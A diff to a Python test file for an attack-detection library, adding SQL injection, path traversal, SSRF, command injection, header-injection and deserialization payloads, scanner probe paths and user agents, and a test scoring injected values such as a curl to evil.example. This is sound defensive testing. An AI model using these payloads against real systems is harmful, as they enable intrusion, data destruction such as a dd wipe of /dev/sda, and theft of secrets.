@@ -58,6 +58,14 @@ SQL = [
     "(select concat(user,0x3a,password) from mysql.user limit 1)",
     "1' and substring(@@version,1,1)='5",
     "id` = 1 or 1=1-- -",
+    "1' and left(version(),1)='8",
+    "' and strcmp(substr(user(),1,1),'r')-- -",
+    "1e0UNION SELECT 1,2",
+    "1 UNION%a0SELECT%a01,2",
+    "'+OR+1=1--+",
+    "1 and elt(4523=4523,1)",
+    "x') ,(case when 4523=4523 then 1 else null end)-- -",
+    "1 RLIKE SLEEP(5)",
     "\\' or 1=1--",
     "' or exists(select 1 from users)--",
 ]
@@ -128,6 +136,9 @@ OTHERS = [
     "/etc/passwd",
     "php://filter/convert.base64-encode/resource=index.php",
     "....//....//etc/passwd",
+    "0x2e0x2e0x2f0x2e0x2e0x2fx",
+    "%c0%ae%c0%ae/x",
+    "\";exit(md5('a'));//",
     "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
     "%252e%252e%252fetc%252fpasswd",
     "file:///etc/passwd",
@@ -148,6 +159,13 @@ OTHERS = [
     "http://169.254.169.254/latest/meta-data/",
     "http://127.0.0.1:22",
     "http://localhost/admin",
+    "http:127.0.0.1/",
+    "//127.0.0.1/admin",
+    "http://127.0.0.1./",
+    "http://[fe80::1%25eth0]/",
+    "unix:/var/run/docker.sock",
+    "; dd if=/dev/zero of=/dev/sda",
+    "& wmic process list",
     "http://0x7f000001/",
     "http://2130706433/",
     "gopher://127.0.0.1:6379/_x",
@@ -175,6 +193,16 @@ OTHERS = [
     "() { :;}; echo x",
     "cat${IFS}/etc/passwd",
     ";wget http://x/y",
+    "; w'h'o'am'i",
+    "& wh^oami",
+    "; ssh-keyscan evil.example >> ~/.ssh/known_hosts",
+    "--use-compress-program=id",
+    "x\r\nStatus: 302",
+    "x\r\nFLUSHALL\r\n",
+    "guest\n[INFO] User admin logged in",
+    "\u010d\u010aSet-Cookie:x=y",
+    "a@b.example\n\nBuy now",
+    "-OQueueDirectory=/tmp -X/var/www/x.php jo@ex.example",
     "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
     "..%u2215..%u2215etc%u2215passwd",
     "http://evil.example/shell.txt?",
@@ -198,6 +226,12 @@ OTHERS = [
     "{{settings.SECRET_KEY}}",
     "GLOBALS[x]",
     "print(md5(123));",
+    "array_map('system',['id'])",
+    "chr(115).chr(121).chr(115)",
+    '{{.System "id"}}',
+    "/wEyxBEAAQAAAP////8BAAAA",
+    "- !ruby/class 'Gem::SpecFetcher'",
+    "org.apache.tomcat.dbcp.dbcp2.BasicDataSource",
 ]
 
 TALK = [
@@ -378,6 +412,8 @@ TALK = [
     "print(self.name)",
     "see https://example.org/a",
     "http://[2606:4700::1]/",
+    "//cdn.example.org/a.js",
+    "drop `limit` or `offset`, use cursor",
 ]
 
 
@@ -424,6 +460,10 @@ def test_the_prefilter_leaves_no_detector_out(detectors: Detectors, text: str) -
         ("/db.sql.gz", True),
         ("/server.key", True), ("/cgi-bin/test.cgi", True), ("/solr/admin/cores", True),
         ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", True), ("/actuator/heapdump", True),
+        ("/.netrc", True), ("/wp-config-backup.php", True), ("/old/web.7z", True), ("/cmd.aspx", True),
+        ("/debug/pprof/heap", True), ("/dana-na/auth", True), ("/ZmEu", True), ("/_all_dbs", True),
+        ("/blog/tags/mysql", False), ("/docs/jenkins/", False), ("/js/jquery.core.js", False),
+        ("/wp-admin/admin-ajax.php", False), ("/download/app.zip", False), ("/news/telescope/", False),
         ("/index.php", False), ("/environment", False), ("/news/backup-plans", False),
         ("/.well-known/x", False),
     ],
@@ -435,3 +475,33 @@ def test_paths_that_only_scanners_ask_for(path: str, is_probe: bool) -> None:
 def test_what_is_found_behind_encodings_says_so(detectors: Detectors) -> None:
     (found,) = detectors.findings(b"%2527%2520or%25201=1--")
     assert (found.id, found.decoded, found.score) == ("sqli", True, 5)
+
+
+@pytest.mark.parametrize(
+    ("agent", "is_scanner"),
+    [
+        ("sqlmap/1.7.2#stable (https://sqlmap.org)", True),
+        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", True),
+        ("Mozilla/5.0 zgrab/0.x", True), ("gobuster/3.6", True), ("WPScan v3.8.25", True),
+        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", True),
+        ("curl/8.4.0", False), ("Wget/1.21.3", False), ("python-requests/2.31.0", False),
+        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", False),
+        ("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/121.0", False),
+    ],
+)  # fmt: skip
+def test_scanners_are_known_by_the_name_they_give(detectors: Detectors, agent: str, is_scanner: bool) -> None:
+    found = [one.id for one in detectors.findings_in_agent(agent.encode())]
+    assert found == (["agent"] if is_scanner else [])
+
+
+def test_what_is_shown_to_people_is_a_warning_and_what_is_added_to_a_value_an_attack(
+    detectors: Detectors,
+) -> None:
+    shown = [
+        b"Does `sleep 5 &` put the process in the background? Yes; use `jobs` and `fg`.",
+        b"tar czf backup.tgz /home/me && scp backup.tgz me@nas:/backups/",
+        b"SELECT a FROM t1 UNION SELECT b FROM t2;",
+    ]
+    added = [b"x`sleep 5`", b"127.0.0.1 && curl http://evil.example/", b"1 UNION SELECT b FROM t2"]
+    assert [sum(one.score for one in detectors.findings(value)) for value in shown] == [3, 3, 3]
+    assert [sum(one.score for one in detectors.findings(value)) for value in added] == [5, 5, 5]
